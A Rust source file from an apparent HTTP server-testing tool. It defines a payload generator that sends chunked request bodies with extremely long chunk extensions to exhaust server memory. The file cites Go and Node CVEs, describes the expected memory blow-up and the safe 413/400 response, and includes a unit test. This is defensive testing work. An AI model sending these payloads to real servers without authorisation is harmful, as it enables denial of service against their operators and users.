//! Chunks whose extensions are far longer than they are.

use crate::payload::pieces::{CHUNK, once, repeated};
use crate::payload::{About, Family, Form, Group, Parameter, Takes, Talk, Turn, Values, Wire};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "chunk-extensions",
    group: Group::Uploads,
    about: About {
        summary: "Chunks whose extensions are far longer than they are.",
        provokes: "Readers of chunked bodies that collect the line of a chunk before they look at it, and limits \
                   on bodies that do not count it.",
        seen: "Go CVE-2023-39326, Node CVE-2024-22019, oven-sh/bun issue 34504 (32 MiB accepted).",
        becomes: "8.4 MB on the wire for one byte of body; 17 MiB in a Python handler that reads the line of a chunk \
                  without a limit, and as much more as the extension is longer.",
        safe: "413 or 400 after some KiB of extension; memory stays flat.",
    },
    parameters: &[
        Parameter {
            name: "chunks",
            about: "how many",
            takes: Takes::Count { least: 1, most: 1_000_000_000, default: 1 },
        },
        Parameter {
            name: "extension",
            about: "length of the extension of each",
            takes: Takes::Size { least: 2, most: 1 << 40, default: 8 << 20 },
        },
    ],
    form: Form::Client(make),
};

fn make(values: &Values, _: &Turn, wire: Wire) -> Vec<Talk> {
    let mut head = wire.head();
    head.extend(b"transfer-encoding: chunked\r\nconnection: close\r\n\r\n");
    let (count, extension) = (values.number("chunks"), values.number("extension"));
    let end = once(&b"0\r\n\r\n"[..]);
    // `;e`, then a value: RFC 9112, section 7.1.1.
    let value = extension.saturating_sub(2);
    let equals = u64::from(value > 0);
    if extension < CHUNK as u64 {
        let more = format!("{}{}", "=".repeat(equals as usize), "a".repeat((value - equals) as usize));
        let chunk = format!("1;e{more}\r\nx\r\n");
        let chunks = repeated(chunk.as_bytes(), count.saturating_mul(chunk.len() as u64));
        return vec![Talk::new(once(head).chain(chunks).chain(end))];
    }
    let chunk = move |_| {
        let line = once(&b"1;e="[..]).chain(repeated(b"a", value - equals));
        line.chain(once(&b"\r\nx\r\n"[..]))
    };
    vec![Talk::new(once(head).chain((0..count).flat_map(chunk)).chain(end))]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::{Choice, Value, bare};

    #[test]
    fn a_real_decoder_reads_past_the_extensions() {
        for (chunks, extension) in [(1, 2), (3, 3), (500, 40), (2, 100_000), (4, CHUNK as u64)] {
            let choice = Choice::of(FAMILY).with("chunks", Value::Number(chunks));
            let written = bare::written(&choice.with("extension", Value::Number(extension)), 0);
            let (_, body) = bare::parsed(&written);
            assert_eq!(body.len() as u64, chunks * (extension + 6) + 5);
            assert_eq!(bare::unchunked(&body), (vec![b'x'; chunks as usize], chunks as usize));
        }
    }
}
